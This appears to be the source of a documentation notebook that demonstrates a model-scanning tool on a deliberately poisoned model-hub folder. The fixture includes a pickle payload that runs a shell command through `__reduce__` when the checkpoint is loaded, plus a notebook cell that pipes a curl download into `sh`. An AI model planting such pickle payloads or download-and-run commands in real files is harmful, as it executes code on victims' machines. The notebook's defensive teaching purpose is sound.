# ruff: noqa: E402 - a notebook imports where it needs something
# The source of hugging_face.ipynb; `tools/build_notebooks.py` builds it. A line "# %name" is an IPython magic.

# %% [markdown]
# # A folder from a model hub
#
# A repository is more than its weights: configurations, tokenizers, side-car files of the trainer. One harmful file among
# thirty is enough. This folder has clean weights and a poisoned `rng_state.pth`, which a trainer loads when it resumes.

# %%
import json
import os
import tempfile
from pathlib import Path

import torch

start = Path.cwd()
folder = tempfile.TemporaryDirectory()
os.chdir(folder.name)
marker = Path("marker.txt")


class Payload:
    def __reduce__(self):
        return os.system, ("echo the checkpoint ran this > marker.txt",)


model = Path("model")
model.mkdir()
(model / "config.json").write_text(json.dumps({"model_type": "bert", "hidden_size": 8}))
(model / "tokenizer_config.json").write_text(json.dumps({"chat_template": "{{ messages[0].content }}"}))
(model / "README.md").write_text("# A model\n")
torch.save({"embeddings.weight": torch.zeros(4, 8)}, model / "pytorch_model.bin")
torch.save({"python": Payload()}, model / "rng_state.pth")
sorted(path.name for path in model.iterdir())

# %% [markdown]
# ## The whole folder at a glance
#
# Worst first; what is no model is listed as skipped, not as safe.

# %%
# %load_ext modelscan

# %% tags=["scan"]
# %modelscan model

# %% [markdown]
# ## The side-car is refused, the weights load

# %% tags=["raises-exception", "refused"]
torch.load(model / "rng_state.pth", weights_only=False)

# %% tags=["clean"]
weights = torch.load(model / "pytorch_model.bin", weights_only=False)

# %% tags=["marker"]
print("payload ran:", marker.exists())

# %% [markdown]
# ## The notebook that came with it
#
# Notebooks in a repository are scanned as well: here one that trusts remote code and pipes a download into a shell.

# %%
cells = [
    "AutoModel.from_pretrained('someone/model', trust_remote_code=True)",
    "!curl -s https://example.org/setup.sh | sh",
    "import torch\ntorch.load('rng_state.pth', weights_only=False)",
]
rows = [{"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": c} for c in cells]
book = {"nbformat": 4, "nbformat_minor": 4, "metadata": {}, "cells": rows}
(model / "quickstart.ipynb").write_text(json.dumps(book))

# %%
import modelscan

for finding in modelscan.scan(model / "quickstart.ipynb").findings:
    print(f"{finding.severity!s:9} {finding.where.path or 'rng_state.pth':12} {finding.expression[:70]}")

# %% [markdown]
# ## Going on safely
#
# Ask for safetensors (`use_safetensors=True`), pin `revision=` to a commit you have looked at, and leave
# `trust_remote_code` off.

# %%
# %unload_ext modelscan

# %%
os.chdir(start)
folder.cleanup()
